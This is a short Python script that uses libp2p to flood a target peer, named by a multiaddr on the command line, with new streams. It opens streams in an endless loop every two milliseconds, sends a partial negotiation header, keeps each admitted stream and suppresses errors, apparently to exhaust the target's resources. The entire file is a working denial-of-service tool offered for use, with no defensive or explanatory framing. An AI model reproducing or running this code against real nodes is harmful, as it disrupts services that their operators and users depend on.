"""Open streams to the host at ADDRESS/p2p/ID without end, and keep those that it admits."""

from __future__ import annotations

import sys
from contextlib import suppress

import trio
from libp2p import new_host
from libp2p.peer.peerinfo import info_from_p2p_addr
from multiaddr import Multiaddr


async def flood(target: str) -> None:
    info = info_from_p2p_addr(Multiaddr(target))
    host = new_host()
    kept = []
    async with host.run([]):
        await host.connect(info)
        while True:
            with suppress(Exception):  # reset at once
                stream = await host.get_network().new_stream(info.peer_id)
                await stream.write(b"\x13/ipfs/")
                kept.append(stream)
            await trio.sleep(0.002)


trio.run(flood, sys.argv[1])
